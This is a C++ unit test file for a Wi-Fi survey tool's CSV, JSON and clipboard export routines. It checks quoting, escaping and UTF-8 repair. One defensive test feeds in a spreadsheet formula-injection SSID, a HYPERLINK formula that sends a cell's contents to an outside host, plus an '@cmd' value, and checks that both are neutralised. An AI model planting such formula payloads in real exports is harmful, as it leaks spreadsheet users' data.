#include "survey/survey_export.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "survey/survey_views.h"

namespace {

TEST(SurveyExport, CsvFieldsQuoteWhatRfc4180Requires) {
    struct Case {
        std::string text;
        std::string field;
    };
    const Case cases[] = {
        {"plain", "plain"},
        {"", ""},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\r\nlines", "\"two\r\nlines\""},
        {"lf\nonly", "\"lf\nonly\""},
        {"Café ☕ Wi-Fi", "Café ☕ Wi-Fi"},  // UTF-8 as it is
        {" padded ", " padded "},
    };
    for (const Case& c : cases) EXPECT_EQ(CsvField(c.text), c.field) << c.text;
}

TEST(SurveyExport, JsonStringsEscapeAndRepairBytes) {
    struct Case {
        std::string text;
        std::string literal;
    };
    const Case cases[] = {
        {"plain", "\"plain\""},
        {"quote \" back \\", "\"quote \\\" back \\\\\""},
        {"tab\tcr\rlf\n", "\"tab\\tcr\\rlf\\n\""},
        {std::string("nul\0bell\x07", 9), "\"nul\\u0000bell\\u0007\""},
        {"Café ☕ 𝄞", "\"Café ☕ 𝄞\""},
        {"latin1 caf\xE9", "\"latin1 caf\xEF\xBF\xBD\""},      // not UTF-8: U+FFFD
        {"cut \xE2\x98", "\"cut \xEF\xBF\xBD\xEF\xBF\xBD\""},  // truncated sequence
        {"overlong \xC0\xAF", "\"overlong \xEF\xBF\xBD\xEF\xBF\xBD\""},
        {"surrogate \xED\xA0\x80", "\"surrogate \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\""},
    };
    for (const Case& c : cases) EXPECT_EQ(JsonString(c.text), c.literal) << c.text;
}

ExportDocument Sample() {
    ListViewModel networks(NetworkColumns());
    networks.AppendRow();
    networks.SetRow(0, {"Zed, \"the\" café", {"80% / -60dBm", "RSNA-PSK", "CCMP"}, 8, {}, 0});
    networks.AppendRow();
    networks.SetRow(1, {"Alpha", {"9% / -96dBm", "802.11 Open", "None"}, 8, {}, 1});
    networks.SetSort({0, false});
    ListViewModel adapters(AdapterColumns());
    adapters.AppendRow();
    adapters.SetRow(0, {"Wi-Fi\nCard", {"Connected", "b/g/n"}, 7, {}, 0});
    ExportTable aps{"Access point", "access_points", {"AP Name / MAC", "SSID"}, {{"00:1A:2B:3C:4D:5E", "Alpha"}},
                    {{{"Beacon Period :", "100"}, {"Rates :", "1 2 5.5"}}}};
    return {"2026-12-10T17:00:00Z", "Vellumar", "1.6.3.18",
            {TableOf(adapters, "Adapter", "adapters"), TableOf(networks, "Network", "networks"), aps}};
}

TEST(SurveyExport, CsvIsOneTableWithBomAndCrLf) {
    const std::string expected =
        "\xEF\xBB\xBF"
        "List,Adapter Name,State,802.11 Capacity,\r\n"
        "Adapter,\"Wi-Fi\nCard\",Connected,b/g/n,\r\n"
        "List,Network Name (SSID),Signal Quality,Authentication,Cipher\r\n"
        "Network,Alpha,9% / -96dBm,802.11 Open,None\r\n"  // in the view's order
        "Network,\"Zed, \"\"the\"\" café\",80% / -60dBm,RSNA-PSK,CCMP\r\n"
        "List,AP Name / MAC,SSID,Detail,\r\n"
        "Access point,00:1A:2B:3C:4D:5E,Alpha,Beacon Period : 100; Rates : 1 2 5.5,\r\n";
    EXPECT_EQ(ExportCsv(Sample()), expected);
}

TEST(SurveyExport, TabSeparatedCopyFlattensCells) {
    EXPECT_EQ(TabSeparatedText({"SSID", "Signal"}, {{"Alpha", "80%"}, {"two\tcells\r\nhere", "5"}}),
              "SSID\tSignal\r\nAlpha\t80%\r\ntwo cells  here\t5\r\n");
}

// An access point in range may name itself a formula: exports and copied rows keep it
// as text for a spreadsheet, our own signed numbers stay readable.
TEST(SurveyExport, NamesThatLookLikeFormulasStayText) {
    const std::string evil = "=HYPERLINK(\"//x.yz/\"&B3,\"!\")";
    ExportDocument doc{"t", "p", "v", {{"Network", "networks", {"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"@cmd", "+3"}}, {}}}};
    EXPECT_EQ(ExportCsv(doc), "\xEF\xBB\xBF"
                              "List,SSID,RSSI\r\n"
                              "Network,\"'=HYPERLINK(\"\"//x.yz/\"\"&B3,\"\"!\"\")\",-54 dBm\r\n"
                              "Network,'@cmd,+3\r\n");
    EXPECT_EQ(TabSeparatedText({"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"\t-1+1", "-3"}}),
              "SSID\tRSSI\r\n'" + evil + "\t-54 dBm\r\n' -1+1\t-3\r\n");
}

}  // namespace
